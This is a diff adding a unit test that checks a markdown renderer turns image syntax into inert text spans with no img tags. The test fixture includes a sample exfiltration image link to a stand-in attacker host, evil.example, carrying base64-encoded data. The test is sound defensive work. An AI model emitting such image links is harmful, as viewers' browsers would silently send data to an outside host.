@@ -36,3 +36,12 @@ def test_markdown_still_renders_and_links_are_safe():
 
 def test_empty_text_renders_nothing():
     assert markdown_html("") == ""
+
+
+def test_a_markdown_image_is_inert_text_showing_its_url():
+    """Issue 19 (item 7): `![](https://host/?d=...)` made every viewer's browser fetch the URL."""
+    html = markdown_html('Plan ![chart *x*](https://evil.example/?d=c2VjcmV0&n=1 "t") and ![r][ref] and ![](http://z/)\n\n[ref]: http://e/i.png')
+    assert "<img" not in html and "src=" not in html
+    assert '<span class="image-ref">[image: chart *x*] https://evil.example/?d=c2VjcmV0&amp;n=1</span>' in html
+    assert '<span class="image-ref">[image: r] http://e/i.png</span>' in html
+    assert '<span class="image-ref">[image] http://z/</span>' in html
